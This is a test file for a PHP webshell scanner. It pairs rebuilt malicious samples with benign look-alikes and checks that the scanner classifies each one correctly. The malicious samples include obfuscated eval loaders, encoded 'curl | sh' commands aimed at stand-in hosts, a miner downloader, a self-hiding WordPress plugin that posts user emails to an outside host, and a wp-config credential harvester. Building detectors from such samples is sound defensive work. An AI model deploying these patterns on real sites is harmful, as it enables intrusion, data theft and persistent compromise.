import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';
import { foldVariables } from './php-fold.js';

// Session 37: the techniques of the real webshells held-out set H18 missed at its first scan
// (bench/redteam/README-corpus-s37.md), written again by us as harmless pages, each with look-alikes an
// application may hold. Nothing here is copied from a sample.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);

/** A literal written as PHP pieces of two characters joined by dots: 'ab'.'cd'.'e'. */
const pieces = (s: string) => (s.match(/.{1,2}/g) ?? []).map((p) => `'${p}'`).join('.');
const b64 = (s: string) => Buffer.from(s).toString('base64');
/** A deterministic blob: base64 of bytes that do not compress. */
const blob = (n: number, seed: number) => Buffer.from(Array.from({ length: n }, (_, i) => (i * 131 + seed * 7 + ((i * i) >> 3)) % 256)).toString('base64');

const TABLE = ['dirname', 'move_uploaded_file', 'file_get_contents', 'unlink', 'count', 'chmod', 'is_file'].join('~');
const FETCH = ['curl_init', 'curl_setopt', 'curl_exec', 'curl_close', 'json_encode', 'urlencode'].join('|');

const MALICIOUS: [string, string, string][] = [
  [
    'an uploader calling move_uploaded_file, unlink and chmod through a table of names decoded from pieces of base64',
    '/var/www/html/a.php',
    `<?php\nfunction go() {\n  $d = ${pieces('bAsE64_dEcOdE')}; $x = ${pieces('ExPlOdE')};\n  $t = $x('~', $d(${pieces(b64(TABLE))}));\n  $here = $t[0](__FILE__);\n  if (!empty($_FILES['f'])) { $u = $_FILES['f']; for ($i = 0; $i < $t[4]($u['name']); $i++) { $t[1]($u['tmp_name'][$i], $here . '/' . $u['name'][$i]); $t[5]($here . '/' . $u['name'][$i], 0755); } }\n  if (!empty($_GET['rm'])) $t[3]($_GET['rm']);\n  if (!empty($_GET['v']) && $t[6]($_GET['v'])) echo $t[2]($_GET['v']);\n}\ngo();\n`,
  ],
  [
    'a loader fetching a page with curl through names a function of one local picks from its own decoded list',
    '/var/www/html/b.php',
    `<?php\nfunction n($i) { $a = array(${pieces('eXpLoDe')}, ${pieces('BaSe64_DeCoDe')}); return $a[$i]; }\nfunction f($u) { $e = n(0); $d = n(1); $t = $e('|', $d(${pieces(b64(FETCH))}));\n  $c = $t[0](); $t[1]($c, 10002, $u . '?h=' . $t[5]($_SERVER['HTTP_HOST'])); $t[1]($c, 19913, 1); $r = $t[2]($c); $t[3]($c); return $r; }\necho f('http://cloak.example.invalid/x');\n`,
  ],
  [
    'a closure running eval on what two closures decode from a blob, their decoders picked from a string by worked-out indices',
    '/var/www/html/c.php',
    `<?php\n$run = function ($c) {\n    EVAL($c);\n};\n$one = function ($x) {\n    $s = "_AeBDsCdE";\n    $n = $s[(0 * 6) + 3] . $s[(73 - 69) / 4];\n    $n .= $s[(0 * 14) + 5] . "e" . ((1 * 4) + 2) . (13 - 9) . $s[19 - 19] . $s[(1 * 4) + 3];\n    $n .= $s[6 + -4] . $s[26 - 20] . "O" . $s[20 + -16] . $s[19 + -11] . "";\n    return $n($x);\n};\nfunction two($x) {\n    $w = "nzftA";\n    $g = "G";\n    $g .= $w[(91 - 85) / 6];\n    $g .= "I" . $w[0] . $w[10 - 8];\n    $g .= "l" . $w[18 - 14] . $w[22 - 19];\n    $g .= "e";\n    return $g($x);\n}\n$p = '${blob(24000, 1)}';\n$p = $one($p);\n$p = two($p);\n$run($p);\n`,
  ],
  [
    'an eval wrapper kept in a closure, copied, and called through call_user_func on a decoded blob (red team S37A-50, -55)',
    '/var/www/html/c2.php',
    `<?php\n$r = function ($c) { eval($c); };\n$go = $r;\n$p = '${blob(3000, 4)}';\n$p = gzinflate(base64_decode($p));\ncall_user_func($go, $p);\n`,
  ],
  ['a command given a base64-decoded literal', '/var/www/html/d.php', `<?php shell_exec(base64_decode("${b64('(wget -qO- http://dl.example.invalid/sh || curl -s http://dl.example.invalid/sh) | sh -s x')}")); echo 'ok'; ?>\n`],
  ['a download piped to sh, decoded from base64 into a variable a command function is given (red team S37A-56)', '/var/www/html/d2.php', `<?php\n$c = base64_decode("${b64('curl -s http://dl.example.invalid/x.sh | sh')}");\n@shell_exec($c . ' > /dev/null 2>&1 &');\necho "OK";\n`],
  ['a command given a rot13-decoded literal: a download piped to sh', '/var/www/html/e.php', `<?php system(str_rot13('jtrg -dB- uggc://qy.rknzcyr.vainyvq/o | fu'));\n`],
  [
    'a page killing rival miners, downloading a program from a bare address, making it executable and running it from its folder',
    '/var/www/html/f.php',
    `<?php\nfunction get($u, $to) { $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($ch); if (!$d) $d = @file_get_contents($u); file_put_contents('./' . $to, $d); }\nfunction run($c) { ob_start(); @system($c); return ob_get_clean(); }\nrun("pkill -9 -f xmr");\nget("http://192.0.2.10/worker", "worker");\necho run("chmod +x worker && ./worker");\n`,
  ],
  [
    'a class decrypting the pieces of a posted command with a public key and running the text with eval',
    '/var/www/html/g.php',
    `<?php\nclass K {\n  public function key() { return "-----BEGIN PUBLIC KEY-----\\nMIGf...\\n-----END PUBLIC KEY-----"; }\n  public function run($a) { return @eval($a); }\n  public function get() { $out = ''; foreach (explode('|', $_POST['p']) as $v) { if (openssl_public_decrypt(base64_decode($v), $d, $this->key())) $out .= $d; } return $out; }\n}\n$k = new K();\n$k->run($k->get());\n`,
  ],
  [
    'a WordPress plugin taking itself out of the plugins list and removing its own Deactivate link',
    '/var/www/html/wp-content/plugins/x/x.php',
    `<?php\n/*\nPlugin Name: Speed Helper\n*/\nadd_filter('all_plugins', function ($plugins) { $me = plugin_basename(__FILE__); if (isset($plugins[$me])) unset($plugins[$me]); return $plugins; });\nadd_filter('plugin_action_links_' . plugin_basename(__FILE__), function ($actions) { unset($actions['deactivate']); return $actions; });\nadd_action('template_redirect', function () { if (!is_user_logged_in() && wp_remote_retrieve_body(wp_remote_get('https://geo.example.invalid/?ip=' . $_SERVER['REMOTE_ADDR'])) === 'go') { wp_redirect('https://ads.example.invalid/'); exit; } });\nadd_action('init', function () { $u = get_users(array('fields' => array('user_email'))); wp_remote_post('https://collect.example.invalid/u', array('body' => array('u' => wp_json_encode($u)))); });\n`,
  ],
  [
    'a script cutting the database logins out of the copies of wp-config it lists and logging in to each',
    '/var/www/html/h.php',
    `<?php\n$out = fopen('found.txt', 'a');\nforeach (glob('*.txt') as $file) {\n  $c = str_replace(' ', '', file_get_contents($file));\n  if (!preg_match("/DB_USER','(.+?)'/", $c, $u) || !preg_match("/DB_PASSWORD','(.+?)'/", $c, $p) || !preg_match("/DB_HOST','(.+?)'/", $c, $h)) continue;\n  $db = @mysqli_connect($h[1], $u[1], $p[1]);\n  if ($db) { fwrite($out, "$h[1];$u[1];$p[1]\\n"); mysqli_close($db); }\n}\n`,
  ],
];

// (suspicious, not malicious: a vendor's feed printed from a hidden address, a cache plugin expiring files by days and
// skipping administrators have the same shapes, red team S37B)
const SUSPICIOUS: [string, string, string][] = [
  [
    'a theme header printing what a server sends, its address hidden in base64 (H18\'s "unsure" spam injector)',
    '/var/www/html/wp-content/themes/t/header.php',
    `<!DOCTYPE html>\n<html><head><?php wp_head(); ?></head>\n<body>\n<?php echo file_get_contents(base64_decode('${b64('https://links.example.invalid/backlinks.php?domain=shop.example')}')); ?>\n`,
  ],
  [
    'a plugin adding a remote script for visitors who are not administrators, its own files set 90 days back (H18\'s "unsure" injector)',
    '/var/www/html/wp-content/plugins/fast/fast.php',
    `<?php\n/*\nPlugin Name: Fast Pages\n*/\nregister_activation_hook(__FILE__, 'fp_dates');\nadd_action('wp_enqueue_scripts', function () { if (is_admin() || current_user_can('administrator')) return; wp_enqueue_script('fp', 'https://cdn.example.invalid/fp.js', array(), null, false); });\nfunction fp_dates() { $t = strtotime('-90 days'); foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator(plugin_dir_path(__FILE__), FilesystemIterator::SKIP_DOTS)) as $f) touch($f->getPathname(), $t); }\n`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'an analytics plugin adding its vendor\'s script for visitors who are not administrators',
    '/var/www/html/wp-content/plugins/stats/stats.php',
    `<?php\n/*\nPlugin Name: Site Stats\n*/\nadd_action('wp_enqueue_scripts', function () { if (current_user_can('manage_options')) return; wp_enqueue_script('stats', 'https://stats.example.com/s.js', array(), '1.0', true); });\n`,
  ],
  [
    'an unpacker keeping each file\'s time from its archive, and a cache file expired an hour ago',
    '/var/www/html/unpack.php',
    `<?php\nforeach (glob(__DIR__ . '/staging/*') as $src) { $to = __DIR__ . '/live/' . basename($src); copy($src, $to); touch($to, filemtime($src)); }\ntouch(__DIR__ . '/cache/index.cache', time() - 3600);\n`,
  ],
  [
    'a page printing a partner\'s feed from a plain address',
    '/var/www/html/feed.php',
    `<?php\necho file_get_contents('https://partner.example.com/feed.html');\n`,
  ],
  [
    'a dispatch table of callbacks written plainly and called by element',
    '/var/www/html/dispatch.php',
    `<?php\n$ops = array('trim', 'strtolower', 'file_get_contents', 'unlink', 'basename');\n$path = __DIR__ . '/cache/' . $ops[4]($_GET['f'] ?? 'x');\nif (is_file($path)) { echo $ops[2]($path); $ops[3]($path); }\n`,
  ],
  [
    'a config loader reading a list of column names from a base64 setting',
    '/var/www/html/columns.php',
    `<?php\n$cols = explode(',', base64_decode('${b64('id,name,email,created')}'));\nforeach ($cols as $c) echo htmlspecialchars($c), "\\n";\n`,
  ],
  [
    'a template engine whose render function runs the compiled template with eval, and a base64 logo',
    '/var/www/html/tpl.php',
    `<?php\n$logo = '${blob(3000, 2)}';\nfunction render_compiled($code) { eval($code); }\n$compiled = '?>' . file_get_contents(__DIR__ . '/cache/page.php');\nrender_compiled($compiled);\necho '<img src="data:image/png;base64,' . $logo . '">';\n`,
  ],
  [
    'a status page decoding a base64 setting and running a fixed command kept in a variable',
    '/var/www/html/status3.php',
    `<?php\n$title = base64_decode("${b64('Server status')}");\n$cmd = 'uptime';\necho '<h1>' . htmlspecialchars($title) . '</h1><pre>' . htmlspecialchars((string) shell_exec($cmd)) . '</pre>';\n`,
  ],
  [
    'a maintenance page running a fixed command with a literal base64 label printed apart',
    '/var/www/html/maint.php',
    `<?php\necho base64_decode('${b64('Disk usage')}');\necho shell_exec('df -h');\n`,
  ],
  [
    'an installer downloading an archive over https and unpacking it, without making anything executable',
    '/var/www/html/install.php',
    `<?php\nfile_put_contents('/tmp/app.tgz', file_get_contents('https://releases.example.com/app.tgz'));\nexec('tar xzf /tmp/app.tgz -C ' . escapeshellarg(__DIR__));\n`,
  ],
  [
    'a licence check verifying a signed licence file with openssl_public_decrypt',
    '/var/www/html/licence.php',
    `<?php\n$pub = file_get_contents(__DIR__ . '/key.pem');\n$ok = openssl_public_decrypt(base64_decode(file_get_contents(__DIR__ . '/licence.sig')), $plain, $pub);\nif (!$ok || $plain !== hash('sha256', $_SERVER['HTTP_HOST'])) die('unlicensed');\n`,
  ],
  [
    'a white-label plugin hiding the plugins its settings list, not itself',
    '/var/www/html/wp-content/plugins/wl/wl.php',
    `<?php\n/*\nPlugin Name: White Label\n*/\nadd_filter('all_plugins', function ($plugins) { foreach ((array) get_option('wl_hidden', array()) as $p) unset($plugins[$p]); return $plugins; });\n`,
  ],
  [
    'a backup tool reading its own site\'s wp-config for the database login',
    '/var/www/html/wp-backup.php',
    `<?php\n$c = file_get_contents(__DIR__ . '/wp-config.php');\npreg_match("/define\\\\(\\\\s*'DB_USER',\\\\s*'([^']*)'/", $c, $u);\npreg_match("/define\\\\(\\\\s*'DB_PASSWORD',\\\\s*'([^']*)'/", $c, $p);\n$db = new mysqli('localhost', $u[1], $p[1]);\nforeach ($db->query('SHOW TABLES') as $row) echo $row[0], "\\n";\n`,
  ],
  [
    'a setup page downloading a PDF tool over https, making it executable and asking its version (red team S37A-19)',
    '/var/www/html/setup-pdf.php',
    `<?php\nif (PHP_SAPI !== 'cli') exit;\nfile_put_contents(__DIR__ . '/wkhtmltopdf', file_get_contents('https://downloads.example.com/wkhtmltopdf-0.12.6-amd64'));\necho shell_exec('cd ' . escapeshellarg(__DIR__) . ' && chmod 0755 wkhtmltopdf && ./wkhtmltopdf --version 2>&1');\n`,
  ],
  [
    'a white-label plugin hiding itself from clients when its setting says so, and a database class calling $pdo->exec on a decoded schema (S37A-5, -14)',
    '/var/www/html/wp-content/plugins/agency/agency.php',
    `<?php\n/*\nPlugin Name: Agency Tools\n*/\nadd_filter('all_plugins', function ($plugins) { if (get_option('agency_client_mode')) { $me = plugin_basename(__FILE__); unset($plugins[$me]); } return $plugins; });\nfunction agency_install(PDO $pdo) { $pdo->exec(gzinflate(base64_decode('${Buffer.from('CREATE TABLE t (id INT)').toString('base64')}'))); }\n`,
  ],
  [
    'a pager working out an offset with arithmetic in an index',
    '/var/www/html/pager.php',
    `<?php\n$rows = range(1, 100);\n$page = max(1, (int) ($_GET['p'] ?? 1));\necho $rows[($page - 1) * 10] . ' to ' . $rows[(($page - 1) * 10) + 9];\n`,
  ],
];

describe('scan: the techniques of held-out set H18 (session 37)', () => {
  for (const [name, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
    });
  }
  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 11));

  for (const [name, path, src] of SUSPICIOUS) {
    it(`suspicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'suspicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
    });
  }
  it('ran every suspicious form', () => assert.equal(SUSPICIOUS.length, 2));

  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 15));

  // (red team S37B: a table of 200 calls of one function, looked up again and again, took a 3 KB file 40 s; each call with
  // the same arguments is worked out once while no name changes, so the table folds within the calls' budget)
  // (two lookups of a table of 200 calls are 400 calls, past the budget of 256 when each is worked out again)
  it('works out a table of 200 calls of the same function once, and folds what it gives', () => {
    const src = `<?php\nfunction g() { return 'sys'; }\nfunction f($i) { $t = array(${Array.from({ length: 200 }, () => 'g()').join(', ')}, 'tem'); return $t[$i]; }\n$a = f(0) . f(200);\n$a($_GET['c']);\n`;
    const folded = foldVariables(src) ?? '';
    assert.match(folded, /'system'\(\$_GET\['c'\]\)/);
  });

  // (red team S37A-1, -2: the first eval-wrapper pattern had two runs of spaces side by side, and a function of one
  // parameter before a megabyte of spaces was read for minutes; each such file is scanned in process, without the bound)
  it('reads a function of one parameter followed by 300,000 spaces and tabs, and many such functions, to the end', () => {
    const pad = ' \t'.repeat(150_000);
    // (with what brings the packed-payload analyser to the wrappers: a blob of base64, a decoder, an eval)
    const one = scan(`<?php\n$logo = '${blob(3000, 3)}';\n$img = base64_decode($logo);\n$tpl = 'x';\neval($tpl);\n$r = function ($c) {${pad}return $c; };\nfunction w($c) {${pad}eval($c)${pad};${pad}}\n$t = [1][(0 * 6)${pad}+ 0];\n`, '/var/www/html/pad.php');
    assert.ok(!one.findings.some((f) => f.rule === 'mamori:scan-failed'), JSON.stringify(one.findings));
    const many = scan(`<?php\n${Array.from({ length: 40 }, (_, i) => `function f${i}($c) {${' '.repeat(8000)}return $c; }`).join('\n')}\n`, '/var/www/html/pad2.php');
    assert.equal(many.verdict, 'clean');
  });
});
